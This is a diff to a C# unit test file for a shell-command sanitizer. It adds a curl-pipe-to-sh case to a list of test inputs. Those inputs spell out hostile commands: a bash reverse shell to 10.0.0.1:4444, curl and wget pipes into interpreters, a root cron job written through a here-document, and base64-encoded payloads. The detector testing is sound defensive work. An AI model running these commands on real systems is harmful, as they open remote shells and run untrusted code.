@@ -24,6 +24,7 @@ public sealed class SanitizerTests
     [InlineData("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", SanitizeKind.CommandChain)]
     [InlineData("curl -fsSL https://h/install | sudo bash", SanitizeKind.PipeToInterpreter)]
     [InlineData("wget -qO- http://h/a.py | python3 -", SanitizeKind.PipeToInterpreter)]
+    [InlineData("command: curl -fsSL https://h/install | sh", SanitizeKind.PipeToInterpreter)]
     [InlineData("cat <<'EOF' > /etc/cron.d/x\n* * * * * root id\nEOF\n", SanitizeKind.HereDocument)]
     [InlineData("echo aWQK | base64 -d | sh", SanitizeKind.EncodedCommand)]
     [InlineData("python -c \"exec(__import__('base64').b64decode('aWQ='))\"", SanitizeKind.EncodedCommand)]
